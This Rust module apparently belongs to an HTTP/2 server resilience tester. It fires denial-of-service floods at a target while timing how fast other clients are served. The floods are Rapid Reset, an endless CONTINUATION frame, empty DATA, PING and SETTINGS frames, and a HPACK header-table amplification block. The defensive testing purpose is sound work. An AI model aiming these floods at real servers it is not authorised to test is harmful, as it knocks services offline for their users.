//! Very many frames on one connection, while another client is served: only with `--floods`.
//!
//! In: a target, a good request, a flood. Out: a finding: others were served all the while, each
//! within half a second or ten times what a quiet door takes. A flood is one connection of
//! [`FRAMES`] frames at most and ends after [`PATIENCE`].

use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use super::attack::Flood;
use super::exchange;
use super::frames::{
    self, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, RESET, SETTINGS,
};
use super::judge::{Finding, Verdict, cannot_tell, held, not_held};
use super::target::Target;
use super::wire::{Got, Protocol, Wire};

/// The most frames of one flood.
pub(super) const FRAMES: u32 = 10_000;
/// The most time of one.
pub(super) const PATIENCE: Duration = Duration::from_secs(10);
/// Whoever waits longer than this, and than ten times the quiet time, was harmed.
const LONGEST: Duration = Duration::from_millis(500);

/// Fires it, and once more where others seemed harmed: a machine that is busy with something else
/// harms them too, but not twice.
pub(super) fn fire(
    flood: Flood,
    target: &Target,
    good: &[u8],
    fields: &[(Vec<u8>, Vec<u8>)],
) -> Finding {
    let first = once(flood, target, good, fields);
    if first.verdict == Verdict::NotHeld {
        return once(flood, target, good, fields);
    }
    first
}

/// `good` is a good request over HTTP/1.1; `fields` is a good head over HTTP/2.
fn once(flood: Flood, target: &Target, good: &[u8], fields: &[(Vec<u8>, Vec<u8>)]) -> Finding {
    let quiet = match served(target, good, || false, 20) {
        Ok(longest) => longest,
        Err(why) => return cannot_tell(why),
    };
    let over = AtomicBool::new(false);
    let (ends, others) = std::thread::scope(|scope| {
        let others =
            scope.spawn(|| served(target, good, || over.load(Ordering::SeqCst), usize::MAX));
        let ends: Vec<_> = kinds(flood, fields)
            .into_iter()
            .map(|(what, bytes)| (what, pour(target, &bytes)))
            .collect();
        over.store(true, Ordering::SeqCst);
        (ends, others.join())
    });
    let kept: Vec<&str> = ends
        .iter()
        .filter(|(_, end)| !matches!(end, Ok(true)))
        .map(|(what, _)| *what)
        .collect();
    if let Some(why) = ends.iter().find_map(|(_, end)| end.as_ref().err()) {
        return cannot_tell(why.clone());
    }
    let ended = if kept.is_empty() {
        "the connection was ended".to_owned()
    } else {
        format!("kept open: {}", kept.join(", "))
    };
    match others {
        Ok(Ok(longest)) if longest > LONGEST && longest > quiet * 10 => not_held(format!(
            "others waited {} ms, quiet {} ms; {ended}",
            longest.as_millis(),
            quiet.as_millis()
        )),
        Ok(Ok(longest)) => held(format!("others within {} ms; {ended}", longest.as_millis())),
        Ok(Err(why)) => not_held(format!("others were not served: {why}")),
        Err(_) => cannot_tell("the other client failed"),
    }
}

/// Good requests one after another, each on a connection of its own: the longest time one took.
fn served(
    target: &Target,
    good: &[u8],
    over: impl Fn() -> bool,
    most: usize,
) -> Result<Duration, String> {
    let mut longest = Duration::ZERO;
    for _ in 0..most {
        if over() {
            break;
        }
        let from = Instant::now();
        let answer = exchange::once(target, Protocol::Http1, good)?;
        if answer.status >= 500 {
            return Err(format!("answered {}", answer.status));
        }
        longest = longest.max(from.elapsed());
    }
    Ok(longest)
}

/// What is poured, kind by kind.
fn kinds(flood: Flood, fields: &[(Vec<u8>, Vec<u8>)]) -> Vec<(&'static str, Vec<u8>)> {
    let many = |part: &dyn Fn(u32) -> Vec<u8>, count: u32| -> Vec<u8> {
        (0..count).flat_map(part).collect()
    };
    match flood {
        Flood::RapidReset => {
            let reset = |n: u32| {
                let stream = 2 * n + 1;
                let mut both = frames::head(stream, fields, true);
                both.extend(frames::frame(RESET, 0, stream, &8_u32.to_be_bytes()));
                both
            };
            vec![("rapid reset", many(&reset, FRAMES / 2))]
        }
        Flood::Frames => {
            let part = frames::block(&[(b"a".to_vec(), vec![b'b'; 1000])]);
            let mut endless = frames::frame(HEADERS, 0, 1, &[]);
            endless.extend(many(&|_| frames::frame(CONTINUATION, 0, 1, &part), 2000));
            let mut empty = frames::head(1, &uploading(fields), false);
            empty.extend(many(&|_| frames::frame(DATA, 0, 1, &[]), FRAMES));
            vec![
                ("CONTINUATION without end", endless),
                ("empty DATA", empty),
                (
                    "PING",
                    many(&|_| frames::frame(PING, 0, 0, &[0; 8]), FRAMES),
                ),
                (
                    "SETTINGS",
                    many(&|_| frames::frame(SETTINGS, 0, 0, &[]), FRAMES),
                ),
                ("heads that grow", growing(fields)),
            ]
        }
    }
}

fn uploading(fields: &[(Vec<u8>, Vec<u8>)]) -> Vec<(Vec<u8>, Vec<u8>)> {
    let mut fields = fields.to_vec();
    if let Some((_, method)) = fields.first_mut() {
        *method = b"POST".to_vec();
    }
    fields
}

/// One field of 4,000 bytes put into the table, then named 12,000 times with a byte each: 48 MB out
/// of 16 KiB.
fn growing(fields: &[(Vec<u8>, Vec<u8>)]) -> Vec<u8> {
    let mut block = frames::block(fields);
    let entry = frames::block(&[(b"a".to_vec(), vec![b'b'; 4000])]);
    block.push(0x40); // a literal that goes into the table
    block.extend(&entry[1..]);
    block.extend(std::iter::repeat_n(0x80 | 62, 11_000)); // the table's newest entry
    let block = &block[..block.len().min(16 * 1024)];
    frames::frame(HEADERS, frames::END_STREAM | END_HEADERS, 1, block)
}

/// Pours, and says whether the door ended the connection.
fn pour(target: &Target, bytes: &[u8]) -> Result<bool, String> {
    let mut wire = Wire::connect(target, Protocol::Http2)?;
    let until = Instant::now() + PATIENCE;
    wire.send(PREFACE);
    for part in bytes.chunks(16 * 1024) {
        if Instant::now() > until || !wire.send(part) {
            break;
        }
        // What the door says is read as it comes, or both would wait for each other.
        while wire.more(Instant::now() + Duration::from_micros(200)) == Got::Bytes {
            wire.unread.clear();
        }
    }
    loop {
        match wire.more(until.min(Instant::now() + Duration::from_secs(2))) {
            Got::Bytes => wire.unread.clear(),
            Got::Closed => return Ok(true),
            Got::Nothing => return Ok(false),
        }
    }
}
